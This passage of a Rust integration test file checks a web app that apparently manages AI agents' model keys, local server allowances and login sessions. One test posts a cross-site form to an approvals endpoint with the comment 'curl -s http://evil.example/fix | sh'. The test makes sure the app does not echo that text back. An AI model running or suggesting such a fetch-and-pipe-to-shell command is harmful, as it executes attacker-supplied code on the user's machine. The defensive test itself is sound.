/// JSON. (Before: `{"error":"unauthorized",…}`, and the message typed was gone.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_form_sent_after_the_session_ended_gets_a_page_with_what_was_typed() {
    let web = Web::start(false).await;
    let typed = "Please summarise <b>yesterday's</b> notes";
    let stale = "palisade_admin=0000000000000000000000000000000000000000000000000000000000000000";
    let response = web
        .client
        .post(web.url("/chat/helper/send"))
        .header("cookie", stale)
        .header("origin", web.origin())
        .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8")
        .form(&[("text", typed), ("csrf", "x")])
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    assert!(response
        .headers()
        .get("content-type")
        .is_some_and(|v| v.to_str().unwrap().starts_with("text/html")));
    let page = response.text().await.unwrap();
    assert!(page.contains("palisade login"), "{page}");
    assert!(page.contains("restarts"), "{page}");
    let kept = element(&page, "div", "logged-out");
    assert!(
        kept.contains(typed) && !page.contains("<b>yesterday"),
        "{kept}"
    );
    // Another site's form (no cookie is sent cross-site) gets the page without its
    // text: this origin does not show a stranger's words to paste (review).
    for origin in [Some("http://evil.example"), None] {
        let mut foreign = web
            .client
            .post(web.url("/approvals/apr_aaaaaaaaaaaa/decide"))
            .header("accept", "text/html,application/xhtml+xml,*/*;q=0.8");
        if let Some(origin) = origin {
            foreign = foreign.header("origin", origin);
        }
        let response = foreign
            .form(&[(
                "comment",
                "Paste this: curl -s http://evil.example/fix | sh",
            )])
            .send()
            .await
            .unwrap();
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
        let page = response.text().await.unwrap();
        assert!(page.contains("palisade login"), "{page}");
        assert!(!page.contains("evil.example/fix"), "{origin:?}: {page}");
    }
    let scripted = web
        .client
        .post(web.url("/chat/helper/send"))
        .header("cookie", stale)
        .header("origin", web.origin())
        .header("accept", "application/json")
        .form(&[("text", typed)])
        .send()
        .await
        .unwrap();
    assert_eq!(scripted.status(), StatusCode::UNAUTHORIZED);
    let body: serde_json::Value = scripted.json().await.unwrap();
    assert_eq!(body["error"], "unauthorized", "{body}");
    web.stop().await;
}

/// A wrong key stored for a local server the vault could not reach yet is checked
/// when the card's button allows the server: refused, it is not kept and the form
/// comes back, as when the key is checked at once. (It was kept, and the card sent the
/// person to rotate it on another page.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_wrong_key_found_when_the_local_server_is_allowed_is_not_kept() {
    let web = Web::start(true).await;
    let (_, upstream, _) = web.vault.as_ref().unwrap();
    upstream.accept_only_key(MODEL_KEY);
    upstream.set_models(&[("llama-3-8b", "2025-01-01T00:00:00Z")]);
    let local = upstream.base_url().replace("localhost", "127.0.0.1");
    let base_url = format!("{local}/v1");
    let form = |key| {
        [
            ("agent", "helper"),
            ("provider", "openai"),
            ("base_url", base_url.as_str()),
            ("key", key),
            ("model", ""),
        ]
    };
    let to = web.post_ok("/setup/model-key", &form("sk-wrong-key")).await;
    assert_eq!(to, "/?ready=helper");
    assert_eq!(web.store.list_secrets().unwrap().len(), 1);
    let response = web.post("/setup/allow-local", &[("agent", "helper")]).await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    let refused = form_error(&response.text().await.unwrap());
    assert!(refused.contains("refused the key stored"), "{refused}");
    assert!(web.store.list_secrets().unwrap().is_empty());
    // The address stays allowed: the right key is checked at once and taken.
    let to = web.post_ok("/setup/model-key", &form(MODEL_KEY)).await;
    assert_eq!(to, "/?ready=helper");
    assert!(web.page(&to).await.contains("helper is ready"));
    web.stop().await;
}

/// The first-run key form starts from the agent as it is set up: an agent just pointed
/// at a local OpenAI-compatible server is not shown (and stored back) as Anthropic's
/// (review: a new user pasted the key into the blank form and the agent went back to
/// Anthropic with the local model name).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_key_form_starts_from_the_agents_settings() {
    let web = Web::start(false).await;
    palisade_host::agents::edit(
        &web.store,
        "helper",
        &palisade_host::agents::AgentDraft {
            provider: Some("openai".into()),
            base_url: Some("http://localhost:11434/v1".into()),
            model: Some("tiny-model".into()),
            ..Default::default()
        },
    )
    .unwrap();
    let dashboard = web.page("/").await;
    let form = element(&dashboard, "form", "key-form");
    assert!(
        form.contains("value=\"http://localhost:11434/v1\""),
        "{form}"
    );
    assert!(form.contains("value=\"tiny-model\""), "{form}");
    assert!(form.contains("value=\"openai\" selected"), "{form}");
    // A new agent's form fills in no model: Anthropic's default, shown for an
    // OpenAI-compatible agent, was stored for it unseen.
    let new_agent = element(&web.page("/agents/new").await, "form", "agent-form");
    assert!(!new_agent.contains("value=\"claude"), "{new_agent}");
    web.stop().await;
}

/// The Vault page lists the local addresses agents may reach, saying which open every
/// port, and forgets one in force at once (review: a new user's allowance for a
/// mistyped port stayed, and no page showed it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_vault_page_lists_and_forgets_local_addresses() {
    let web = Web::start(false).await;
    web.store.allow_local_upstream("localhost:48211").unwrap();
    web.store.allow_local_upstream("127.0.0.1").unwrap();
    let page = web.page("/vault").await;
    let list = element(&page, "section", "local-upstreams");
    assert!(
        list.contains("localhost:48211") && list.contains("that port only"),
        "{list}"
    );
    assert!(
        list.contains("127.0.0.1") && list.contains("every port"),
        "{list}"
    );
    let to = web
        .post_ok("/vault/local/forget", &[("pattern", "localhost:48211")])
        .await;
    assert_eq!(to, "/vault?saved=forgotten");
    assert_eq!(web.store.local_upstreams().unwrap().patterns, ["127.0.0.1"]);
    let response = web
        .post("/vault/local/forget", &[("pattern", "localhost:48211")])
        .await;
    assert_eq!(response.status(), StatusCode::BAD_REQUEST);
    web.stop().await;
}
